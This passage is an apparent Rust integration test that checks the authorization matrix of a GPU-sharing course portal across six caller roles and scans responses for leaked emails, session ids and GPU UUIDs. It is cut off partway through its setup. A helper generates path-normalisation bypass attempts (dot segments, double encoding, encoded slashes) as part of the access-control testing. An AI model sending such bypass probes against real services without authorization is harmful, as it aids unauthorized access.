//! The authorization matrix: every page and every server function, asked by each kind of
//! caller, answers exactly as the table says. The table must name every route the binary
//! serves (`slicehub routes`), so a new route nobody decided access for fails here.
//!
//! Beyond the status, no answer may carry what its caller must not see: other people's
//! emails, who holds a GPU slice (username and session id), GPU and MIG UUIDs, other
//! callers' session tokens. A student of course A holds a real slice (a busybox job) while
//! the matrix runs, so the holder and the MIG device exist to be leaked. Every route is
//! also asked for by other spellings of its path (encoded, cased, `//`, dot segments): none
//! opens what the table keeps shut. Needs the Docker engine and `slicehub/busybox:offline`
//! (docker/README.md).

use std::collections::BTreeSet;
use std::time::{Duration, Instant};

use slicehub_end2end::form::{base64, client, get_text, post, sign_in, urlencode};
use slicehub_end2end::raw_http::exchange;
use slicehub_end2end::Portal;

const BIN: &str = env!("CARGO_BIN_EXE_slicehub");
const ADMIN_PASSWORD: &str = "admin-password-1";

/// anonymous, student of A, student of B, instructor of A, instructor of B, admin
const CALLERS: [&str; 6] = [
    "anonymous",
    "student-a",
    "student-b",
    "instructor-a",
    "instructor-b",
    "admin",
];

/// GET pages: expected status per caller (303 = sent to sign in). A course page of a
/// course the caller does not belong to answers 404, as for a course that does not exist
/// (so course codes cannot be tried out); a member without the role gets 403.
const PAGES: &[(&str, [u16; 6])] = &[
    ("/", [200, 200, 200, 200, 200, 200]),
    ("/login", [200, 200, 200, 200, 200, 200]),
    ("/account", [303, 200, 200, 200, 200, 200]),
    ("/courses", [303, 200, 200, 200, 200, 200]),
    ("/courses/{code}", [303, 200, 404, 200, 404, 200]),
    ("/courses/{code}/policy", [303, 403, 404, 200, 404, 200]),
    ("/courses/{code}/class", [303, 403, 404, 200, 404, 200]),
    ("/courses/{code}/bookings", [303, 403, 404, 200, 404, 200]),
    ("/sessions", [303, 200, 200, 200, 200, 200]),
    ("/admin/users", [303, 403, 403, 403, 403, 200]),
    ("/gpus", [303, 403, 403, 403, 403, 200]),
    ("/status", [303, 403, 403, 403, 403, 200]),
    ("/reports", [303, 403, 403, 200, 200, 200]),
    ("/admin/audit", [303, 403, 403, 403, 403, 200]),
    ("/admin/sessions", [303, 403, 403, 403, 403, 200]),
    ("/admin/lms", [303, 403, 403, 403, 403, 200]),
];

/// Other GET endpoints: expected status per caller.
const ENDPOINTS: &[(&str, [u16; 6])] = &[
    ("/healthz", [200, 200, 200, 200, 200, 200]),
    // Off without `metrics.token`; with it, only the bearer token opens it, never a
    // login (server/tests/it/metrics.rs).
    ("/metrics", [404, 404, 404, 404, 404, 404]),
    ("/api/sessions/events", [401, 200, 200, 200, 200, 200]),
    ("/courses/{code}/usage.csv", [303, 403, 404, 200, 404, 200]),
    // Each instructor gets the courses they teach; admins every course.
    ("/reports/usage.csv", [303, 403, 403, 200, 200, 200]),
    ("/admin/audit.csv", [303, 403, 403, 403, 403, 200]),
    // No such session: nobody learns more than 404.
    ("/user/{*rest}", [404, 404, 404, 404, 404, 404]),
    // No OpenID Connect provider is configured here: every name is unknown.
    ("/login/oidc/{name}", [404, 404, 404, 404, 404, 404]),
    ("/login/oidc/{name}/callback", [404, 404, 404, 404, 404, 404]),
    ("/logout/oidc/{name}", [404, 404, 404, 404, 404, 404]),
    // An LMS's login initiation without its fields; a launch ticket that is not one.
    ("/lti/login", [400, 400, 400, 400, 400, 400]),
    ("/lti/continue", [403, 403, 403, 403, 403, 403]),
    // The portal's public key as an LTI tool is for everyone.
    ("/lti/jwks", [200, 200, 200, 200, 200, 200]),
];

/// Server functions: the form body (`{n}` is replaced by a number unique to the call)
/// and the expected status per caller.
/// A signed-in caller outside CS-101 gets 404 from its course functions, the answer for a
/// course that does not exist, so course codes cannot be tried out through the API either.
const FUNCTIONS: &[(&str, &str, [u16; 6])] = &[
    // Everyone learns whether the portal works and how many slices are free; who holds
    // them, and the GPU and MIG UUIDs, only administrators (the content rules below).
    ("check_instance", "", [200, 200, 200, 200, 200, 200]),
    ("current_user", "", [200, 200, 200, 200, 200, 200]),
    (
        "login",
        "username=nobody{n}&password=wrong-password",
        [401, 401, 401, 401, 401, 401],
    ),
    (
        "change_password",
        "current=x&new_password=aaaaaaaaaaaa&confirm=bbbbbbbbbbbb",
        [401, 400, 400, 400, 400, 400],
    ),
    ("list_courses", "", [401, 200, 200, 200, 200, 200]),
    // Each caller's own invitations; nobody here has one to answer, whatever the course.
    ("my_invitations", "", [401, 200, 200, 200, 200, 200]),
    ("answer_invitation", "code=CS-101&join=true", [401, 404, 404, 404, 404, 404]),
    ("open_course", "code=CS-101", [401, 200, 404, 200, 404, 200]),
    // The preview names accounts from outside the course: it must not show their details.
    (
        "check_roster",
        "code=CS-101&csv_base64={foreign}",
        [401, 403, 404, 200, 404, 200],
    ),
    (
        "import_roster",
        "code=CS-101&csv_base64={roster}",
        [401, 403, 404, 200, 404, 200],
    ),
    (
        "drop_student",
        "code=CS-101&username=bob",
        [401, 403, 404, 404, 404, 404],
    ),
    // bob is a student of ML only: to CS-101's instructor he is no student at all.
    (
        "reset_student_password",
        "code=CS-101&username=bob",
        [401, 403, 404, 404, 404, 404],
    ),
    (
        "make_instructor",
        "code=CS-101&username=ivy",
        [401, 403, 404, 403, 404, 200],
    ),
    (
        "add_course",
        "code=NEW-{n}&title=New",
        [401, 403, 403, 403, 403, 200],
    ),
    ("course_policy", "code=CS-101", [401, 403, 404, 200, 404, 200]),
    ("class_dashboard", "code=CS-101", [401, 403, 404, 200, 404, 200]),
    ("lab_bookings", "code=CS-101", [401, 403, 404, 200, 404, 200]),
    // A booking in the past is refused after the guard: nothing is booked.
    (
        "book_lab",
        "code=CS-101&profile=1g.10gb&slices=1&date=2020-01-01&start=10:00&end=11:00&weeks=1",
        [401, 403, 404, 400, 404, 400],
    ),
    ("cancel_lab_booking", "code=CS-101&id=999999", [401, 403, 404, 404, 404, 404]),
    // By GPU: only admins may see the UUIDs (the content rules below).
    (
        "usage_report",
        "period=week&from=&to=&group=gpu&course=",
        [401, 403, 403, 200, 200, 200],
    ),
    (
        "usage_report",
        "period=week&from=&to=&group=user&course=CS-101",
        [401, 403, 403, 200, 403, 200],
    ),
    // A refused save (the budget is negative) answers the problems and changes nothing.
    (
        "save_course_policy",
        "code=CS-101&images=a/b:1&profiles=&max_minutes=60&max_sessions=1&max_slices=2&internet=on&quota_hours=-1&period=week&reset_day=0&reset_time=00:00&term_starts=&term_ends=&time_zone=UTC",
        [401, 403, 404, 200, 404, 200],
    ),
    (
        "grant_extra_hours",
        "code=CS-101&username=nobody&hours=1&reason=test",
        [401, 403, 404, 404, 404, 404],
    ),
    ("list_users", "", [401, 403, 403, 403, 403, 200]),
    // The sign-in page's buttons are for everyone; one's own sign-in ways for oneself.
    ("sign_in_options", "", [200, 200, 200, 200, 200, 200]),
    ("my_sign_ins", "", [401, 200, 200, 200, 200, 200]),
    ("sign_in_status", "", [401, 403, 403, 403, 403, 200]),
    ("lms_platforms", "", [401, 403, 403, 403, 403, 200]),
    // Past the guard the form is refused (the issuer is no address): nothing registered.
    (
        "register_lms",
        "name=lms{n}&issuer=not-an-address&client_id=c&deployment_ids=d&auth_login_url=x&auth_token_url=x&jwks_url=x",
        [401, 403, 403, 403, 403, 400],
    ),
    ("remove_lms", "name=nosuch", [401, 403, 403, 403, 403, 404]),
    ("course_lms", "code=CS-101", [401, 403, 404, 200, 404, 200]),
    // CS-101 has no LMS course linked: nothing to read.
    ("sync_lms_roster", "code=CS-101", [401, 403, 404, 400, 404, 400]),
    ("audit_log", "who=&what=&from=&to=&before=", [401, 403, 403, 403, 403, 200]),
    // Home pages: the operations summary is the administrators'; a class summary lists
    // only the caller's own classes (none for students).
    ("operations_summary", "", [401, 403, 403, 403, 403, 200]),
    ("teaching_summary", "", [401, 200, 200, 200, 200, 200]),
    // Every course's sessions, alice's among them: administrators only.
    ("operations_sessions", "course=&user=&gpu=&state=", [401, 403, 403, 403, 403, 200]),
    // Draining GPU 9, which does not exist: the guard answers first.
    ("set_gpu_drained", "index=9&drained=true", [401, 403, 403, 403, 403, 404]),
    (
        "add_account",
        "username=new{n}&display_name=New&email=",
        [401, 403, 403, 403, 403, 200],
    ),
    (
        "reset_account_password",
        "user_id={spare}",
        [401, 403, 403, 403, 403, 200],
    ),
    (
        "set_account_disabled",
        "user_id={spare}&disabled=false",
        [401, 403, 403, 403, 403, 200],
    ),
    ("read_gpus", "", [401, 403, 403, 403, 403, 200]),
    // One's own tokens; a scope the account could never use is refused.
    ("my_tokens", "", [401, 200, 200, 200, 200, 200]),
    ("create_token", "name=t{n}&days=7&read=on", [401, 200, 200, 200, 200, 200]),
    ("create_token", "name=t{n}&days=7&admin=on", [401, 403, 403, 403, 403, 200]),
    ("create_token", "name=t{n}&days=7&course_manage=on", [401, 403, 403, 200, 200, 200]),
    ("revoke_token", "id=999999", [401, 404, 404, 404, 404, 404]),
    ("launch_options", "", [401, 200, 200, 200, 200, 200]),
    ("my_sessions", "", [401, 200, 200, 200, 200, 200]),
    ("session_history", "page=0", [401, 200, 200, 200, 200, 200]),
    // CS-101 is course 1. Past the guard the claim itself is refused: the image is not
    // allowed (400). Who owns which session is tested in sessions_http.rs.
    (
        "start_session",
        "course_id=1&profile=1g.10gb&image=not/allowed:1",
        [401, 400, 403, 400, 403, 400],
    ),
    (
        "stop_session",
        "id=s-nosuchsession",
        [401, 404, 404, 404, 404, 404],
    ),
    (
        "session_logs",
        "id=s-nosuchsession",
        [401, 404, 404, 404, 404, 404],
    ),
    (
        "slice_activity",
        "id=s-nosuchsession",
        [401, 404, 404, 404, 404, 404],
    ),
    (
        "keep_session_running",
        "id=s-nosuchsession",
        [401, 404, 404, 404, 404, 404],
    ),
    // Last: it ends the caller's session.
    ("logout", "", [200, 200, 200, 200, 200, 200]),
];

/// The REST API, asked with each caller's token (anonymous: none). Tokens carry every
/// scope their owner could use: students `read sessions`, instructors also
/// `course:manage`, the administrator also `admin`. (method, path as the OpenAPI document
/// writes it, the path asked, the body, expected status.) A scope a token lacks is 403
/// before the guard is asked, so it tells nothing of the course either.
const API: &[(&str, &str, &str, &str, [u16; 6])] = &[
    ("GET", "/api/v1/openapi.json", "/api/v1/openapi.json", "", [200, 200, 200, 200, 200, 200]),
    ("GET", "/api/v1/docs", "/api/v1/docs", "", [200, 200, 200, 200, 200, 200]),
    ("GET", "/api/v1/me", "/api/v1/me", "", [401, 200, 200, 200, 200, 200]),
    ("GET", "/api/v1/tokens", "/api/v1/tokens", "", [401, 200, 200, 200, 200, 200]),
    ("DELETE", "/api/v1/tokens/{id}", "/api/v1/tokens/999999", "", [401, 404, 404, 404, 404, 404]),
    ("GET", "/api/v1/sessions", "/api/v1/sessions", "", [401, 200, 200, 200, 200, 200]),
    ("GET", "/api/v1/sessions/history", "/api/v1/sessions/history", "", [401, 200, 200, 200, 200, 200]),
    ("GET", "/api/v1/sessions/events", "/api/v1/sessions/events", "", [401, 200, 200, 200, 200, 200]),
    ("GET", "/api/v1/launch-options", "/api/v1/launch-options", "", [401, 200, 200, 200, 200, 200]),
    // Alice's running job: hers to read; her instructor and admins read its logs and
    // activity as on the pages; "one session" is one of the caller's own.
    ("GET", "/api/v1/sessions/{id}", "/api/v1/sessions/{session}", "", [401, 200, 404, 404, 404, 404]),
    ("GET", "/api/v1/sessions/{id}/logs", "/api/v1/sessions/{session}/logs", "", [401, 200, 404, 200, 404, 200]),
    ("GET", "/api/v1/sessions/{id}/activity", "/api/v1/sessions/{session}/activity", "", [401, 200, 404, 200, 404, 200]),
    // Past the guard the claim is refused: the image is not allowed. Bob learns nothing
    // of CS-101, as on the pages.
    ("POST", "/api/v1/sessions", "/api/v1/sessions", r#"{"course":"CS-101","profile":"1g.10gb","image":"not/allowed:1"}"#, [401, 400, 404, 400, 404, 400]),
    ("DELETE", "/api/v1/sessions/{id}", "/api/v1/sessions/s-nosuchsession", "", [401, 404, 404, 404, 404, 404]),
    ("POST", "/api/v1/sessions/{id}/keep", "/api/v1/sessions/s-nosuchsession/keep", "", [401, 404, 404, 404, 404, 404]),
    ("GET", "/api/v1/courses", "/api/v1/courses", "", [401, 200, 200, 200, 200, 200]),
    ("POST", "/api/v1/courses", "/api/v1/courses", r#"{"code":"NEW-{n}","title":"New"}"#, [401, 403, 403, 403, 403, 204]),
    ("GET", "/api/v1/courses/{code}", "/api/v1/courses/CS-101", "", [401, 200, 404, 200, 404, 200]),
    ("POST", "/api/v1/courses/{code}/roster/check", "/api/v1/courses/CS-101/roster/check", "{foreign_csv}", [401, 403, 403, 200, 404, 200]),
    ("POST", "/api/v1/courses/{code}/roster", "/api/v1/courses/CS-101/roster", "{roster_csv}", [401, 403, 403, 200, 404, 200]),
    ("DELETE", "/api/v1/courses/{code}/students/{username}", "/api/v1/courses/CS-101/students/bob", "", [401, 403, 403, 404, 404, 404]),
    ("POST", "/api/v1/courses/{code}/students/{username}/password-reset", "/api/v1/courses/CS-101/students/bob/password-reset", "", [401, 403, 403, 404, 404, 404]),
    ("POST", "/api/v1/courses/{code}/instructors", "/api/v1/courses/CS-101/instructors", r#"{"username":"ivy"}"#, [401, 403, 403, 403, 403, 204]),
    ("GET", "/api/v1/courses/{code}/policy", "/api/v1/courses/CS-101/policy", "", [401, 403, 404, 200, 404, 200]),
    // A refused save (the budget is negative) is a 400 naming the field; nothing is saved.
    ("PUT", "/api/v1/courses/{code}/policy", "/api/v1/courses/CS-101/policy", r#"{"images":"a/b:1","profiles":"","max_minutes":"60","max_sessions":"1","max_slices":"2","internet":"on","quota_hours":"-1","period":"week","reset_day":"0","reset_time":"00:00","term_starts":"","term_ends":"","time_zone":"UTC"}"#, [401, 403, 403, 400, 404, 400]),
    ("POST", "/api/v1/courses/{code}/extra-hours", "/api/v1/courses/CS-101/extra-hours", r#"{"username":"nobody","hours":"1","reason":"test"}"#, [401, 403, 403, 404, 404, 404]),
    ("GET", "/api/v1/courses/{code}/class", "/api/v1/courses/CS-101/class", "", [401, 403, 404, 200, 404, 200]),
    ("GET", "/api/v1/courses/{code}/usage.csv", "/api/v1/courses/CS-101/usage.csv", "", [401, 403, 404, 200, 404, 200]),
    ("GET", "/api/v1/courses/{code}/bookings", "/api/v1/courses/CS-101/bookings", "", [401, 403, 404, 200, 404, 200]),
    ("POST", "/api/v1/courses/{code}/bookings", "/api/v1/courses/CS-101/bookings", r#"{"profile":"1g.10gb","slices":"1","date":"2020-01-01","start":"10:00","end":"11:00","weeks":"1"}"#, [401, 403, 403, 400, 404, 400]),
    ("DELETE", "/api/v1/courses/{code}/bookings/{id}", "/api/v1/courses/CS-101/bookings/999999", "", [401, 403, 403, 404, 404, 404]),
    ("GET", "/api/v1/reports/usage", "/api/v1/reports/usage?period=week&group=user&course=CS-101", "", [401, 403, 403, 200, 403, 200]),
    ("GET", "/api/v1/reports/usage.csv", "/api/v1/reports/usage.csv?period=week&group=user", "", [401, 403, 403, 200, 200, 200]),
    ("GET", "/api/v1/users", "/api/v1/users", "", [401, 403, 403, 403, 403, 200]),
    ("POST", "/api/v1/users", "/api/v1/users", r#"{"username":"new{n}","display_name":"New"}"#, [401, 403, 403, 403, 403, 201]),
    ("POST", "/api/v1/users/{id}/password-reset", "/api/v1/users/{spare}/password-reset", "", [401, 403, 403, 403, 403, 200]),
    ("PUT", "/api/v1/users/{id}/disabled", "/api/v1/users/{spare}/disabled", r#"{"disabled":false}"#, [401, 403, 403, 403, 403, 204]),
    ("GET", "/api/v1/gpus", "/api/v1/gpus", "", [401, 403, 403, 403, 403, 200]),
    ("PUT", "/api/v1/gpus/{index}/drained", "/api/v1/gpus/9/drained", r#"{"drained":true}"#, [401, 403, 403, 403, 403, 404]),
    ("GET", "/api/v1/status", "/api/v1/status", "", [401, 200, 200, 200, 200, 200]),
    ("GET", "/api/v1/admin/sessions", "/api/v1/admin/sessions", "", [401, 403, 403, 403, 403, 200]),
    ("GET", "/api/v1/audit", "/api/v1/audit", "", [401, 403, 403, 403, 403, 200]),
    ("GET", "/api/v1/audit.csv", "/api/v1/audit.csv", "", [401, 403, 403, 403, 403, 200]),
];

/// The JupyterHub-compatible API, with the same tokens (sent as `token …`). As
/// JupyterHub does, no token is 403. A person another caller may not see is 404.
const HUB: &[(&str, &str, &str, &str, [u16; 6])] = &[
    ("GET", "/hub/api", "/hub/api", "", [200, 200, 200, 200, 200, 200]),
    ("GET", "/hub/api/", "/hub/api/", "", [200, 200, 200, 200, 200, 200]),
    ("GET", "/hub/api/services", "/hub/api/services", "", [200, 200, 200, 200, 200, 200]),
    ("GET", "/hub/api/user", "/hub/api/user", "", [403, 200, 200, 200, 200, 200]),
    ("GET", "/hub/api/users", "/hub/api/users", "", [403, 403, 403, 403, 403, 200]),
    ("GET", "/hub/api/users/{name}", "/hub/api/users/alice", "", [403, 200, 404, 200, 404, 200]),
    // Alice runs a job, not a notebook: nothing to follow or stop, for those who may see her.
    ("GET", "/hub/api/users/{name}/server/progress", "/hub/api/users/alice/server/progress", "", [403, 404, 404, 404, 404, 404]),
    ("DELETE", "/hub/api/users/{name}/server", "/hub/api/users/alice/server", "", [403, 204, 404, 204, 404, 204]),
    // Only alice starts her notebook; past that, the image is refused.
    ("POST", "/hub/api/users/{name}/server", "/hub/api/users/alice/server", r#"{"user_options":{"course":"CS-101","image":"not/allowed:1"}}"#, [403, 400, 404, 403, 404, 403]),
    ("GET", "/hub/api/users/{name}/tokens", "/hub/api/users/alice/tokens", "", [403, 200, 404, 403, 404, 403]),
    ("POST", "/hub/api/users/{name}/tokens", "/hub/api/users/alice/tokens", r#"{"note":"hub {n}","scopes":["read"]}"#, [403, 201, 404, 403, 404, 403]),
    // Groups are the courses a caller manages: students see none.
    ("GET", "/hub/api/groups", "/hub/api/groups", "", [403, 200, 200, 200, 200, 200]),
    ("GET", "/hub/api/groups/{name}", "/hub/api/groups/nbgrader-CS-101", "", [403, 404, 404, 200, 404, 200]),
    ("POST", "/hub/api/groups/{name}", "/hub/api/groups/nbgrader-CS-101", "", [403, 403, 403, 201, 404, 201]),
    ("POST", "/hub/api/groups/{name}/users", "/hub/api/groups/nbgrader-CS-101/users", r#"{"users":["alice"]}"#, [403, 403, 403, 200, 404, 200]),
    ("DELETE", "/hub/api/groups/{name}/users", "/hub/api/groups/nbgrader-CS-101/users", r#"{"users":["nobody"]}"#, [403, 403, 403, 400, 404, 400]),
    ("GET", "/hub/home", "/hub/home", "", [303, 303, 303, 303, 303, 303]),
    ("GET", "/hub/spawn", "/hub/spawn", "", [303, 303, 303, 303, 303, 303]),
    ("GET", "/hub/spawn/{*rest}", "/hub/spawn/alice", "", [303, 303, 303, 303, 303, 303]),
    ("GET", "/hub/logout", "/hub/logout", "", [303, 303, 303, 303, 303, 303]),
    // Whatever else JupyterHub answers, SliceHub does not: a JSON 404 for everyone.
    ("ANY", "/hub/api/{*rest}", "/hub/api/proxy", "", [404, 404, 404, 404, 404, 404]),
];

/// The people, each with an email that is easy to search for, and which callers (in the
/// order of `CALLERS`) may see it: themselves, their course's instructors, admins.
const PEOPLE: &[(&str, &str, &str, [bool; 6])] = &[
    (
        "alice",
        "Alice",
        "student-a-secret@example.edu",
        [false, true, false, true, false, true],
    ),
    (
        "bob",
        "Bob",
        "student-b-secret@example.edu",
        [false, false, true, false, true, true],
    ),
    (
        "ivy",
        "Ivy",
        "instructor-a-secret@example.edu",
        [false, false, false, true, false, true],
    ),
    (
        "ian",
        "Ian",
        "instructor-b-secret@example.edu",
        [false, false, false, false, true, true],
    ),
    (
        "spare",
        "Spare",
        "spare-secret@example.edu",
        [false, false, false, false, false, true],
    ),
];

/// Who may see alice's running session (its id, and her as its holder): alice, the
/// instructor of her course, admins.
const SEES_ALICES_SESSION: [bool; 6] = [false, true, false, true, false, true];
/// Who may see the MIG device alice's session runs on: alice and admins.
const SEES_ALICES_DEVICE: [bool; 6] = [false, true, false, false, false, true];
const BUSYBOX: &str = "slicehub/busybox:offline";

/// Everything some caller must not find in an answer, each with who may see it.
struct Secrets(Vec<(String, &'static str, [bool; 6])>);

impl Secrets {
    /// The secrets `caller` may not see that `body` contains, with what they are.
    fn leaked(&self, caller: usize, body: &str) -> Vec<String> {
        self.0
            .iter()
            .filter(|(marker, _, may)| !may[caller] && body.contains(marker.as_str()))
            .map(|(marker, what, _)| format!("{what} `{marker}`"))
            .collect()
    }
}

async fn signed_in(portal: &Portal, user: &str, password: &str) -> String {
    sign_in(&client(), &portal.url, user, password)
        .await
        .unwrap_or_else(|| panic!("{user} could not sign in"))
}

/// The whole answer, or what an endless stream sent in its first second and a half.
async fn body_of(mut resp: reqwest::Response) -> String {
    let until = tokio::time::Instant::now() + Duration::from_millis(1500);
    let mut bytes = Vec::new();
    while let Ok(Ok(Some(chunk))) = tokio::time::timeout_at(until, resp.chunk()).await {
        bytes.extend_from_slice(&chunk);
    }
    String::from_utf8_lossy(&bytes).into_owned()
}

async fn answer(portal: &Portal, cookie: &Option<String>, function: &str, body: &str) -> String {
    let resp = post(
        &client(),
        &portal.url,
        cookie.as_deref(),
        function,
        body.to_string(),
    )
    .await;
    resp.text().await.unwrap()
}

/// Other spellings of `path` that a lenient router or a decoding guard might take for it:
/// percent-encoded and double-encoded letters, another case, a trailing slash, `//`, an
/// encoded `/` and dot segments.
fn spellings_of(path: &str) -> Vec<String> {
    let segments: Vec<&str> = path.trim_start_matches('/').split('/').collect();
    let first = segments[0];
    let rest = segments[1..].join("/");
    let tail = if rest.is_empty() { String::new() } else { format!("/{rest}") };
    let mut out = vec![
        format!("{}/", path.trim_end_matches('/')),
        format!("/{path}"),
        format!("/x/..{path}"),
        format!("/.{path}"),
        path.to_uppercase(),
    ];
    if let Some(letter) = first.chars().next().filter(char::is_ascii_alphabetic) {
        let encoded = format!("%{:02X}", letter as u32);
        out.push(format!("/{encoded}{}{tail}", &first[1..]));
        out.push(format!("/%25{}{}{tail}", &encoded[1..], &first[1..]));
    }
    if !rest.is_empty() {
        out.push(format!("/{first}//{rest}"));
        out.push(format!("/{first}/./{rest}"));
        out.push(format!("/{first}/%2E/{rest}"));
        out.push(format!("/{first}%2F{rest}"));
    }
    out.retain(|v| v != path);
    out
}

/// GET `path` exactly as written, with the login cookie when there is one: reqwest would
/// resolve dot segments first, and a raw request is what an attacker sends. The status and
/// the body (chunks joined).
async fn raw_get(portal: &Portal, path: &str, cookie: Option<&str>) -> (u16, String) {
    let cookie = cookie.map(|c| format!("\r\nCookie: {c}")).unwrap_or_default();
    raw(portal, &format!("GET {path} HTTP/1.1{cookie}"), "").await
}

/// One request as written, on its own connection: an endless stream is read for 1.5 s.
async fn raw(portal: &Portal, head: &str, body: &str) -> (u16, String) {
    let host = portal.url.trim_start_matches("http://");
    tokio::time::timeout(Duration::from_secs(30), exchange(host, head, body.as_bytes(), Duration::from_millis(1500)))
        .await
        .unwrap_or_else(|_| panic!("{head} did not finish"))
}

/// A client that shows redirects instead of following them.
fn no_redirects() -> reqwest::Client {
    reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap()
}

async fn json_of(portal: &Portal, cookie: &str, function: &str) -> serde_json::Value {
    let text = answer(portal, &Some(cookie.to_string()), function, "").await;
    serde_json::from_str(&text).unwrap_or_else(|_| panic!("{function}: {text}"))
}

/// Starts a long busybox job for the caller and waits until it holds its slice and runs.
async fn running_job(portal: &Portal, cookie: &str) -> String {
    let body = format!(
        "course_id=1&profile=1g.10gb&image={}&command={}",
        urlencode(BUSYBOX),
        urlencode("sleep 600")
    );
    let resp = post(&client(), &portal.url, Some(cookie), "start_session", body).await;
    let text = resp.text().await.unwrap();
    let view: serde_json::Value = serde_json::from_str(&text).unwrap_or_else(|_| panic!("{text}"));
    let id = view["id"].as_str().unwrap().to_string();
    let until = Instant::now() + Duration::from_secs(60);
    loop {
        let mine = json_of(portal, cookie, "my_sessions").await;
        let state = mine
            .as_array()
            .unwrap()
            .iter()
            .find(|s| s["id"] == id.as_str())
            .map(|s| s["state"].as_str().unwrap_or_default().to_string())
            .unwrap_or_default();
        if state == "ready" {
            return id;
        }
        assert!(
            Instant::now() < until,
            "the job never got ready ({state}): {mine}"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

#[tokio::test]
async fn every_route_answers_each_caller_exactly_as_the_table_says() {
    let portal = Portal::start(
        BIN.as_ref(),
        &[
            ("SLICEHUB_ADMIN_PASSWORD", ADMIN_PASSWORD),
            ("SLICEHUB_GPU_BACKEND", "simulated"),
            // An L4 split into two MPS shares besides the MIG GPU: its UUID and its
            // share's device are for administrators alone, as a MIG GPU's are.
            ("SLICEHUB_GPU_SIMULATED", "1 x H100-80GB, 1 x L4-24GB"),
            ("SLICEHUB_GPU_SHARES", "1 = 2 mps"),
            ("SLICEHUB_SESSIONS_DEFAULT_IMAGE", BUSYBOX),
            ("SLICEHUB_SESSIONS_MEMORY_MIB_PER_MEMORY_SLICE", "128"),
            ("SLICEHUB_SESSIONS_MAX_PER_USER", "4"),
            // The matrix sends a few hundred API calls from one address at once.
            ("SLICEHUB_SERVER_API_BURST", "10000"),
        ],
    )
    .await;

    // The table covers exactly what the binary serves.
    let routes: serde_json::Value = serde_json::from_str(&portal.cli(&["routes"], "")).unwrap();
    let served: BTreeSet<String> = routes["pages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p.as_str().unwrap().to_string())
        .collect();
    let decided: BTreeSet<String> = PAGES.iter().map(|(p, _)| p.to_string()).collect();
    assert_eq!(
        served, decided,
        "pages served vs pages in the authorization table"
    );
    let served: BTreeSet<String> = routes["server_functions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p.as_str().unwrap().to_string())
        .collect();
    let decided: BTreeSet<String> = FUNCTIONS
        .iter()
        .map(|(f, ..)| format!("POST /api/{f}"))
        .collect();
    assert_eq!(
        served, decided,
        "server functions served vs those in the authorization table"
    );

    let served: BTreeSet<String> = routes["endpoints"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p.as_str().unwrap().to_string())
        .collect();
    let decided: BTreeSet<String> = ENDPOINTS.iter().map(|(p, _)| p.to_string()).collect();
    assert_eq!(
        served, decided,
        "endpoints served vs endpoints in the table"
    );
    for (list, table) in [("api", API), ("hub", HUB)] {
        let served: BTreeSet<String> = routes[list].as_array().unwrap().iter().map(|p| p.as_str().unwrap().to_string()).collect();
        let decided: BTreeSet<String> = table.iter().map(|(m, p, ..)| format!("{m} {p}")).collect();
        assert_eq!(served, decided, "{list} routes served vs those in the table");
    }

    // Two courses; alice studies A, bob studies B, ivy teaches A, ian teaches B.
    for (user, name, email, _) in PEOPLE {
        portal.cli(
            &[
                "user",
                "add",
                user,
                "--name",
                name,
                "--email",
                email,
                "--password-stdin",
            ],
            &format!("{user}-password-1\n"),
        );
    }
    portal.cli(&["course", "add", "CS-101", "Deep Learning"], "");
    portal.cli(&["course", "add", "MA-201", "Linear Algebra"], "");
    portal.cli(&["course", "instructor", "CS-101", "ivy"], "");
    portal.cli(&["course", "instructor", "MA-201", "ian"], "");
    let admin = signed_in(&portal, "admin", ADMIN_PASSWORD).await;
    for (course, student) in [("CS-101", "alice"), ("MA-201", "bob")] {
        let csv = format!("username,display name,email\n{student},{student},\n");
        let body = format!(
            "code={course}&csv_base64={}",
            urlencode(&base64(csv.as_bytes()))
        );
        let resp = post(&client(), &portal.url, Some(&admin), "import_roster", body).await;
        assert_eq!(resp.status(), 200, "{}", resp.text().await.unwrap());
    }
    let users = json_of(&portal, &admin, "list_users").await;
    let spare_id = users
        .as_array()
        .unwrap()
        .iter()
        .find(|u| u["username"] == "spare")
        .unwrap()["id"]
        .to_string();
    let roster = urlencode(&base64(b"username,display name,email\nalice,alice,\n"));
    let foreign = urlencode(&base64(
        b"username,display name,email\nalice,alice,\nbob,Bob,x@evil.example\nspare,Spare,\n",
    ));

    let cookies: Vec<Option<String>> = vec![
        None,
        Some(signed_in(&portal, "alice", "alice-password-1").await),
        Some(signed_in(&portal, "bob", "bob-password-1").await),
        Some(signed_in(&portal, "ivy", "ivy-password-1").await),
        Some(signed_in(&portal, "ian", "ian-password-1").await),
        Some(signed_in(&portal, "admin", ADMIN_PASSWORD).await),
    ];

    // Each caller's token with every scope the account could use.
    let scopes: [&[&str]; 6] = [
        &[],
        &["read", "sessions"],
        &["read", "sessions"],
        &["read", "sessions", "course:manage"],
        &["read", "sessions", "course:manage"],
        &["read", "sessions", "course:manage", "admin"],
    ];
    let tokens: Vec<Option<String>> = ["", "alice", "bob", "ivy", "ian", "admin"]
        .iter()
        .zip(scopes)
        .map(|(user, scopes)| {
            (!user.is_empty()).then(|| {
                let mut args = vec!["token", "create", user, "--name", "matrix"];
                for scope in scopes {
                    args.extend(["--scope", scope]);
                }
                portal.cli(&args, "").lines().next().unwrap_or_default().to_string()
            })
        })
        .collect();

    // Alice holds a slice; the admin's board names her, her session and the devices.
    let session = running_job(&portal, cookies[1].as_deref().unwrap()).await;
    let board = json_of(&portal, &admin, "read_gpus").await;
    let gpus = board["gpus"].as_array().unwrap();
    let held = gpus
        .iter()
        .flat_map(|g| g["instances"].as_array().unwrap())
        .find(|i| i["holder"].as_str().is_some_and(|h| h.contains(&session)))
        .unwrap_or_else(|| panic!("the board names no holder of {session}: {board}"));
    assert!(held["holder"].as_str().unwrap().contains("alice"), "{held}");
    let mut secrets = vec![
        (session.clone(), "alice's session", SEES_ALICES_SESSION),
        (
            "alice · ".to_string(),
            "alice as a holder",
            SEES_ALICES_SESSION,
        ),
        (
            held["mig_uuid"].as_str().expect("a MIG device").to_string(),
            "a MIG UUID",
            SEES_ALICES_DEVICE,
        ),
    ];
    for gpu in gpus {
        let only_admin = [false, false, false, false, false, true];
        secrets.push((
            gpu["gpu"]["uuid"].as_str().unwrap().to_string(),
            "a GPU UUID",
            only_admin,
        ));
    }
    for (_, _, email, may) in PEOPLE {
        secrets.push((email.to_string(), "an email", *may));
